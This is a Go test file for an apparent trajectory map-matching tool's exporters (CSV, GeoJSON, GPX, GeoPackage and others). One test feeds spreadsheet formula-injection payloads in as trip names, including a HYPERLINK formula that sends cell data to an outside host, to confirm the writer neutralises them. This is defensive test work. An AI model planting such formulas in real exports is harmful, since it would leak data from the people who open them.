package write

import (
	"bytes"
	"context"
	"database/sql"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/sebdah/goldie/v2"
	"pgregory.net/rapid"

	"retrace/engine/roadnet"
	"retrace/engine/roadnet/roadnettest"
	"retrace/engine/trajectory"
	"retrace/engine/trajectory/read"
	"retrace/internal/sheet"
)

const morning = 1704182400000 // 2024-01-02T08:00:00Z

// drawn is a street with a bend, crossed by another, and a recovery on it: from
// the middle of AB over B and C to the middle of CD, turning back at no place,
// and a second part on EB.
func drawn(t testing.TB) (*roadnettest.Net, *trajectory.Recovery) {
	net := roadnettest.Draw(t, 100, `
	    A---B---C
	        |   |
	        E   D
	`, "ABC highway=primary name=High_Street", "CD highway=residential bridge=yes layer=1", "EB highway=residential")
	tick := func(seconds int64, at roadnet.Position, part int32, along float64) trajectory.Tick {
		p := net.At(at)
		return trajectory.Tick{Time: morning + seconds*1000, Lon: p.Lon, Lat: p.Lat, At: at, Part: part, Along: along, Probability: 0.75, Margin: 1}
	}
	r := &trajectory.Recovery{
		Trajectory: `trip "1", north`,
		Ticks: []trajectory.Tick{
			tick(0, net.Pos("AB", 0.5), 0, 0),
			tick(20, net.Pos("BC", 0), 0, 200),
			tick(60, net.Pos("CD", 0), 0, 600),
			tick(75, net.Pos("CD", 0.5), 0, 700),
			tick(100, net.Pos("EB", 0.25), 1, 0),
			tick(115, net.Pos("EB", 0.75), 1, 100),
		},
		Parts: []trajectory.Part{
			{Segments: []roadnet.SegmentID{net.Seg("AB"), net.Seg("BC"), net.Seg("CD")}, StartRatio: 0.5, EndRatio: 0.5},
			{Segments: []roadnet.SegmentID{net.Seg("EB")}, StartRatio: 0.25, EndRatio: 0.75},
		},
		Spans: []trajectory.Span{{Enter: morning + 60_000, Exit: morning + 75_500, Part: 0, From: 600, To: 700, Road: "residential",
			Kind: trajectory.OnDeck, Probability: 0.9, RunnerUp: "High Street", Margin: 0.1}},
	}
	r.Ticks[0].Observed = true
	r.Ticks[3].Layer, r.Ticks[3].Deck, r.Ticks[3].Margin = 1, trajectory.OnDeck, 0.1
	return net, r
}

func about(net *roadnettest.Net) About {
	info := net.Info()
	info.Attribution, info.Fingerprint = "© OpenStreetMap contributors (ODbL)", "f00d"
	return About{Network: info, Method: "hmm", Settings: "tick=15s & more", Version: "0.1"}
}

func TestCSVGolden(t *testing.T) {
	net, r := drawn(t)
	for _, layer := range []Layer{Points, Path, Spans, Links} {
		var b bytes.Buffer
		w := StreamCSV(&b, layer, net.Network)
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		goldie.New(t).Assert(t, string(layer)+".csv", b.Bytes())
	}
}

func TestEmptyTablesHaveTheirHeader(t *testing.T) {
	net, _ := drawn(t)
	want := map[Layer]string{
		Points: "trajectory,time,lon,lat,observed,segment,way,from_node,to_node,ratio,probability,layer,deck\n",
		Path:   "trajectory,part,seq,lon,lat,node,way\n",
		Spans:  "trajectory,enter_time,exit_time,length_m,road,kind,probability,runner_up\n",
		Links:  "way,from_node,to_node,segment,trips,mean_speed_kmh,p15_speed_kmh,p85_speed_kmh\n",
	}
	for layer, text := range want {
		var b bytes.Buffer
		if err := StreamCSV(&b, layer, net.Network).Close(); err != nil || b.String() != text {
			t.Errorf("%s: %q, %v", layer, b.String(), err)
		}
	}
}

// file writes recoveries to a file of the given name and gives its path.
func file(t *testing.T, name string, net *roadnettest.Net, recoveries ...*trajectory.Recovery) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), name)
	w, err := Create(path, net.Network, about(net))
	if err != nil {
		t.Fatal(err)
	}
	defer w.Abort()
	for _, r := range recoveries {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestGeoJSONGolden(t *testing.T) {
	net, r := drawn(t)
	for name, recoveries := range map[string][]*trajectory.Recovery{"some": {r}, "none": nil} {
		b, err := os.ReadFile(file(t, "out.geojson", net, recoveries...))
		if err != nil {
			t.Fatal(err)
		}
		if !json.Valid(b) {
			t.Errorf("%s: not JSON", name)
		}
		goldie.New(t).Assert(t, name+".geojson", b)
	}
}

func TestGPXGolden(t *testing.T) {
	net, r := drawn(t)
	b, err := os.ReadFile(file(t, "out.gpx", net, r))
	if err != nil {
		t.Fatal(err)
	}
	for d := xml.NewDecoder(bytes.NewReader(b)); ; {
		if _, err := d.Token(); err == io.EOF {
			break
		} else if err != nil {
			t.Fatal(err)
		}
	}
	goldie.New(t).Assert(t, "some.gpx", b)
}

// What is written as points, Retrace reads again.
func TestPointsAreReadAgain(t *testing.T) {
	net, r := drawn(t)
	for _, name := range []string{"out.csv", "out.gpx", "out.geojson", "out.gpkg", "out.kml", "out.mfjson", "out.parquet", "out.zip"} {
		path := file(t, name, net, r)
		n := 0
		for tr, err := range read.Files(context.Background(), []string{path}, nil, read.Options{}) {
			if err != nil {
				t.Fatal(err)
			}
			n++
			if tr.ID != r.Trajectory || len(tr.Samples) != len(r.Ticks) {
				t.Fatalf("%s: read %q with %d samples", name, tr.ID, len(tr.Samples))
			}
			for i, s := range tr.Samples {
				want := r.Ticks[i]
				if s.Time != want.Time || roadnet.CoordOf(roadnet.Point{Lon: s.Lon, Lat: s.Lat}) != roadnet.CoordOf(roadnet.Point{Lon: want.Lon, Lat: want.Lat}) {
					t.Errorf("%s: sample %d is %+v, was %+v", name, i, s, want)
				}
			}
		}
		if n != 1 {
			t.Errorf("%s: read %d trajectories", name, n)
		}
	}
}

func TestGeoPackageHoldsTheLayers(t *testing.T) {
	net, r := drawn(t)
	path := file(t, "my trips? 50%.gpkg", net, r)
	db, err := sql.Open("sqlite", "file:"+strings.NewReplacer("%", "%25", "?", "%3F", " ", "%20").Replace(path))
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	one := func(query string) (text string) {
		if err := db.QueryRow(query).Scan(&text); err != nil {
			t.Fatalf("%s: %v", query, err)
		}
		return text
	}
	for query, want := range map[string]string{
		"PRAGMA integrity_check":                                                                  "ok",
		"PRAGMA application_id":                                                                   "1196444487",
		"SELECT count(*) FROM points":                                                             "6",
		"SELECT count(*) FROM path":                                                               "2",
		"SELECT count(*) FROM spans":                                                              "1",
		"SELECT count(*) FROM links":                                                              "4",
		"SELECT trajectory || time || deck FROM points WHERE fid = 4":                             `trip "1", north2024-01-02T08:01:15.000Zdeck?`,
		"SELECT value FROM about WHERE name = 'attribution'":                                      "© OpenStreetMap contributors (ODbL)",
		"SELECT count(*) FROM rtree_links_geom WHERE minx <= maxx":                                "4",
		"SELECT count(*) FROM gpkg_contents WHERE min_x < max_x":                                  "4",
		"SELECT count(*) FROM sqlite_master WHERE type = 'trigger'":                               "24",
		"SELECT round(mean_speed_kmh, 2) FROM links WHERE segment = " + fmt.Sprint(net.Seg("BC")): "36",
	} {
		if got := one(query); got != want {
			t.Errorf("%s: got %s, want %s", query, got, want)
		}
	}
}

// The reference reader of the format finds nothing to complain about.
func TestGeoPackageIsReadByGDAL(t *testing.T) {
	if _, err := exec.LookPath("ogrinfo"); err != nil {
		t.Skip("needs ogrinfo (Debian: gdal-bin)")
	}
	net, r := drawn(t)
	out, err := exec.Command("ogrinfo", "-al", "-ro", file(t, "out.gpkg", net, r)).CombinedOutput()
	if err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	text := string(out)
	for _, want := range []string{
		"Layer name: points", "Geometry: Point", "Layer name: path", "Layer name: spans", "Layer name: links", "Geometry: Line String", "Layer name: about",
		`EPSG",4326`, "time (DateTime) = 2024/01/02 08:01:15+00", "deck (String) = deck?", "Feature Count: 6",
		"kind (String) = deck", "p85_speed_kmh (Real) = 36",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("ogrinfo does not say %q", want)
		}
	}
	if strings.Contains(text, "Warning") || strings.Contains(text, "ERROR") {
		t.Errorf("ogrinfo complains:\n%s", text)
	}
	if t.Failed() {
		t.Log(text)
	}
}

func TestNothingStandsUnderTheFinalNameBeforeTheEnd(t *testing.T) {
	net, r := drawn(t)
	for _, format := range Formats() {
		ext := format.Extension
		dir := t.TempDir()
		w, err := Create(filepath.Join(dir, "out"+ext), net.Network, about(net))
		if err != nil {
			t.Fatal(err)
		}
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
		if _, err := os.Stat(filepath.Join(dir, "out"+ext)); !os.IsNotExist(err) {
			t.Errorf("%s: there before the end", ext)
		}
		w.Abort()
		if left, _ := os.ReadDir(dir); len(left) > 0 {
			t.Errorf("%s: left behind %v", ext, left)
		}
	}
	if _, err := Create("out.shp", net.Network, About{}); err == nil || !strings.Contains(err.Error(), ".csv, .geojson, .gpkg, .gpx, .kml, .mfjson, .parquet, .zip") {
		t.Errorf("a format that is not there: %v", err)
	}
}

// Whatever an id holds, a row of CSV comes back as it was.
func TestAnyIDSurvivesCSV(t *testing.T) {
	net, r := drawn(t)
	rapid.Check(t, func(rt *rapid.T) {
		id := rapid.String().Draw(rt, "id")
		rec := *r
		rec.Trajectory = id
		var b bytes.Buffer
		w := StreamCSV(&b, Points, net.Network)
		if err := w.Write(&rec); err != nil {
			rt.Fatal(err)
		}
		if err := w.Close(); err != nil {
			rt.Fatal(err)
		}
		all, err := csv.NewReader(&b).ReadAll()
		if err != nil {
			rt.Fatal(err)
		}
		if got, want := sheet.Text(all[1][0]), strings.ReplaceAll(id, "\r\n", "\n"); got != want {
			rt.Fatalf("got %q, want %q", got, want)
		}
	})
}

// A spreadsheet takes no name for a formula, and the reader takes it as it was.
func TestFormulasAreTexts(t *testing.T) {
	path := filepath.Join(t.TempDir(), "trips.csv")
	w, err := CreateSamples(path, About{})
	if err != nil {
		t.Fatal(err)
	}
	names := []string{`=HYPERLINK("http://example.org?"&A1,"x")`, "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "'=1", "''-", "plain", "'plain"}
	for i, name := range names {
		err := w.Write(&trajectory.Trajectory{ID: name, Vehicle: names[len(names)-1-i], Samples: []trajectory.Sample{{Time: morning, Lon: -8.6, Lat: 41.1}}})
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		if strings.ContainsAny(row[0][:1]+row[1][:1], "=+-@\t\r") {
			t.Errorf("%q of %q runs in a spreadsheet", row[0], row[1])
		}
		if row[3] != "-8.6000000" {
			t.Errorf("the longitude is %q", row[3])
		}
	}
	i := 0
	for got, err := range read.Files(context.Background(), []string{path}, nil, read.Options{}) {
		if err != nil {
			t.Fatal(err)
		}
		if got.ID != names[i] || got.Vehicle != names[len(names)-1-i] {
			t.Errorf("%q of %q came back as %q of %q", names[i], names[len(names)-1-i], got.ID, got.Vehicle)
		}
		i++
	}
	if i != len(names) {
		t.Errorf("%d trips came back", i)
	}
}

func BenchmarkWrite(b *testing.B) {
	net, r := drawn(b)
	for len(r.Ticks) < 100 {
		r.Ticks = append(r.Ticks, r.Ticks[len(r.Ticks)-1])
	}
	for _, format := range Formats() {
		ext := format.Extension
		b.Run(ext, func(b *testing.B) {
			w, err := Create(filepath.Join(b.TempDir(), "out"+ext), net.Network, About{})
			if err != nil {
				b.Fatal(err)
			}
			for b.Loop() {
				if err := w.Write(r); err != nil {
					b.Fatal(err)
				}
			}
			if err := w.Close(); err != nil {
				b.Fatal(err)
			}
		})
	}
}
